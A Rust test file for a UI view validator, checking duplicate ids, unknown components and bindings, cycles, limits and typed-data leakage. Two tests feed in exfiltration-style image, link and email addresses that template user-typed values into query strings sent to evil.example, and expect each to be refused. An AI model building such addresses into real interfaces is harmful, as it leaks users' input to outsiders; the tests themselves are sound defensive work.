//! Which views are drawn, and what is said of those that are not.

use serde_json::{Value, json};

use super::catalog::CATALOG_ID;
use super::check::check;
use super::stored::VERSION;
use crate::domain::contract::{CompiledContract, ContractLimits, samples};

/// The findings about a view of the basket, as `code path`.
fn findings_of(components: Value) -> Vec<String> {
    let limits = ContractLimits::default();
    let basket = CompiledContract::compile(&samples::basket(), &limits)
        .unwrap()
        .contract;
    let value = json!({"version":VERSION,"catalogId":CATALOG_ID,"view":{"components":components}});
    match check(&value, &basket) {
        Ok(view) => {
            assert_eq!(**view.value(), value);
            Vec::new()
        }
        Err(findings) => findings
            .into_iter()
            .map(|f| format!("{} {}", f.code, f.path))
            .collect(),
    }
}

#[test]
fn a_handwritten_view_with_templates_and_functions_passes() {
    let view = json!([
        {"id":"root","component":"Column","children":["list","sum","send"]},
        {"id":"list","component":"List","children":{"componentId":"item","path":"/props/items"}},
        {"id":"item","component":"Text","text":{"call":"formatString","args":{"value":"${qty} × ${title} of ${/props/currency}"},"returnType":"string"}},
        {"id":"sum","component":"Badge","text":"ok","tone":{"path":"/ui/tone"}},
        {"id":"send","component":"Button","child":"word","variant":"primary","action":{"event":{"name":"setQuantity","context":{"sku":"A1","qty":{"path":"/ui/qty"}}}}},
        {"id":"word","component":"Text","text":"Send"}]);
    assert_eq!(findings_of(view), Vec::<String>::new());
}

#[test]
fn every_problem_of_a_view_is_told_at_once() {
    let view = json!([
        {"id":"root","component":"Column","children":["a","b","c","d","e","f","g","gone"]},
        {"id":"a","component":"Text","text":{"path":"/props/nope"}},
        {"id":"a","component":"Text","text":{"path":"title"}},
        {"id":"b","component":"Marquee"},
        {"id":"c","component":"ActionButton","label":"x","action":"nope"},
        {"id":"d","component":"Text","text":"x","onclick":"y"},
        {"id":"e","component":"Table","rows":{"path":"/props/items"},"columns":[{"field":"nope","label":"x"}],
            "rowActions":[{"action":"setQuantity","label":"x","fixed":{"sku":"sku","size":"qty"}}]},
        {"id":"g","component":"Text","text":{"call":"formatCurrency","args":{"value":{"call":"pluralize","args":{"count":1,"other":"x"}}}}},
        {"id":"f","component":"Form","schema":{"type":"object","properties":{"sku":{"type":"string","pattern":"("}}},"submitLabel":"x","action":"setQuantity"}]);
    let found = findings_of(view);
    for expect in [
        "VIEW_DUPLICATE_ID view.components[2]",
        "VIEW_UNKNOWN_COMPONENT components[b].component",
        "VIEW_COMPONENT_INVALID components[d].onclick",
        "VIEW_COMPONENT_INVALID components[f].schema",
        "VIEW_UNKNOWN_CHILD components[root].children",
        "VIEW_UNKNOWN_BINDING components[a].text",
        "VIEW_UNKNOWN_ACTION components[c].data",
        "VIEW_UNKNOWN_BINDING components[e].columns",
        "VIEW_ACTION_PAYLOAD components[e].rowActions",
        "VIEW_ACTION_PAYLOAD components[f].schema",
        "VIEW_CALL_INVALID components[g].text",
    ] {
        assert!(found.contains(&expect.to_owned()), "{expect}: {found:#?}");
    }
}

#[test]
fn the_address_of_a_picture_never_comes_from_what_is_typed() {
    let image = |url: Value| json!([{"id":"root","component":"Image","url":url}]);
    let call = |text: &str| json!({"call":"formatString","args":{"value":text}});
    let refused = ["VIEW_TYPED_ADDRESS components[root].url"];
    for url in [
        json!({"path":"/context/coupon"}),
        json!({"path":"/ui/word"}),
        call("https://evil.example/?q=${/context/coupon}"),
        call("https://evil.example/?q=${ /ui/word }"),
        call("https://evil.example/?q=${formatString(value: '${/context/coupon}')}"),
        call("https://evil.example/?q=${pluralize(value: 1, other: /ui/word)}"),
        json!({"call":"pluralize","args":{"value":{"call":"formatString","args":{"value":{"path":"/context/coupon"}}},"other":"x"}}),
    ] {
        assert_eq!(findings_of(image(url.clone())), refused, "{url}");
    }
    for url in [
        json!("https://img.example/context/ui.png"),
        json!({"path":"/props/note"}),
        call("https://img.example/context/${/props/currency}/ui"),
    ] {
        assert_eq!(
            findings_of(image(url.clone())),
            Vec::<String>::new(),
            "{url}"
        );
    }
    // Records, facts, and a template over what is typed.
    let records = |rows: &str| {
        findings_of(json!([
            {"id":"root","component":"Column","children":["cards","table","facts","list"]},
            {"id":"cards","component":"Cards","rows":{"path":rows},"titleField":"title","imageField":"title"},
            {"id":"table","component":"Table","rows":{"path":rows},"columns":[{"field":"title","label":"T","format":"image"}]},
            {"id":"facts","component":"KeyValue","items":[{"label":"x","value":{"path":"/props/note"},"format":"image"}]},
            {"id":"list","component":"List","children":{"componentId":"item","path":rows}},
            {"id":"item","component":"Image","url":"https://img.example/a.png"}]))
    };
    assert_eq!(records("/props/items"), Vec::<String>::new());
    assert_eq!(
        records("/ui/items"),
        [
            "VIEW_TYPED_ADDRESS components[cards].imageField",
            "VIEW_TYPED_ADDRESS components[item].url",
            "VIEW_TYPED_ADDRESS components[table].columns"
        ]
    );
    let facts = json!([{"id":"root","component":"KeyValue","items":[
        {"label":"x","value":{"path":"/context/coupon"},"format":"image"}]}]);
    assert_eq!(
        findings_of(facts),
        ["VIEW_TYPED_ADDRESS components[root].items"]
    );
}

#[test]
fn the_address_of_a_link_never_comes_from_what_is_typed() {
    let view = |component: Value| {
        let mut root = component;
        root["id"] = json!("root");
        json!([root, {"id":"label","component":"Text","text":"Open"}])
    };
    let call = |text: &str| json!({"call":"formatString","args":{"value":text}});
    let opens = |url: Value| json!({"component":"Button","child":"label","action":{"functionCall":{"call":"openUrl","args":{"url":url}}}});
    let fact = |value: Value, format: &str| json!({"component":"KeyValue","items":[{"label":"x","value":value,"format":format}]});
    let table = |column: Value, source: &str| {
        let mut table =
            json!({"component":"Table","rows":{"path":"/props/items"},"columns":[column]});
        table[source] = json!({"path":"/ui/items"});
        table
    };
    let poll = json!({"component":"Poll","rows":{"path":"/ui/items"},"titleField":"title","titleFormat":"url"});
    let column = |format: &str| json!({"field":"title","label":"T","format":format});
    let within = json!({"field":"title","label":"T","format":"record","parts":[column("url")]});
    for (component, member) in [
        (opens(json!({"path":"/context/coupon"})), "action"),
        (
            opens(call("https://evil.example/?q=${/context/coupon}")),
            "action",
        ),
        (fact(json!({"path":"/context/coupon"}), "url"), "items"),
        (
            fact(call("a@evil.example?body=${/ui/word}"), "email"),
            "items",
        ),
        (table(column("url"), "rows"), "columns"),
        (table(column("email"), "rows"), "columns"),
        (table(column("image"), "changes"), "columns"),
        (table(within, "rows"), "columns"),
        (poll, "titleFormat"),
        (
            json!({"component":"Text","text":call("[x](https://evil.example/?q=${/context/coupon})")}),
            "text",
        ),
        (
            json!({"component":"Text","text":call("[x](https://evil.example/?q=${formatString(value: '${/ui/word}')})")}),
            "text",
        ),
    ] {
        let expected = format!("VIEW_TYPED_ADDRESS components[root].{member}");
        assert_eq!(
            findings_of(view(component.clone())),
            [expected],
            "{component}"
        );
    }
    for component in [
        opens(json!("https://shop.example/context/ui")),
        opens(call("https://shop.example/${/props/currency}")),
        fact(json!({"path":"/props/note"}), "url"),
        fact(json!({"path":"/context/coupon"}), "markdown"),
        json!({"component":"Text","text":call("[x](https://shop.example) for ${/context/coupon}")}),
        json!({"component":"Table","rows":{"path":"/props/items"},"columns":[column("url")]}),
    ] {
        assert_eq!(
            findings_of(view(component.clone())),
            Vec::<String>::new(),
            "{component}"
        );
    }
}

#[test]
fn cycles_depth_and_doubling_are_refused() {
    let link =
        |id: &str, children: Value| json!({"id":id,"component":"Column","children":children});
    assert_eq!(
        findings_of(json!([
            link("root", json!(["a"])),
            link("a", json!(["root"]))
        ])),
        ["VIEW_CYCLE components[root].children"]
    );
    // Each link names the next one, so many times.
    let chain = |length: usize, times: usize| -> Value {
        let id = |at: usize| match at {
            0 => "root".to_owned(),
            at => format!("c{at}"),
        };
        let links = (0..length).map(|at| link(&id(at), json!(vec![id(at + 1); times])));
        links.chain([link(&id(length), json!([]))]).collect()
    };
    assert!(findings_of(chain(40, 1))[0].starts_with("VIEW_LIMIT components[c"));
    assert_eq!(findings_of(chain(20, 2)), ["VIEW_LIMIT view.components"]);
}

#[test]
fn a_view_of_another_catalog_or_version_is_refused() {
    let limits = ContractLimits::default();
    let contract = CompiledContract::compile(&json!({}), &limits)
        .unwrap()
        .contract;
    for value in [
        json!(null),
        json!([]),
        json!({"version":"v1.0","catalogId":"x","view":{"components":{}}}),
    ] {
        assert_eq!(check(&value, &contract).unwrap_err().len(), 3, "{value}");
    }
    assert_eq!(findings_of(json!([])), ["VIEW_NO_ROOT view.components"]);
}
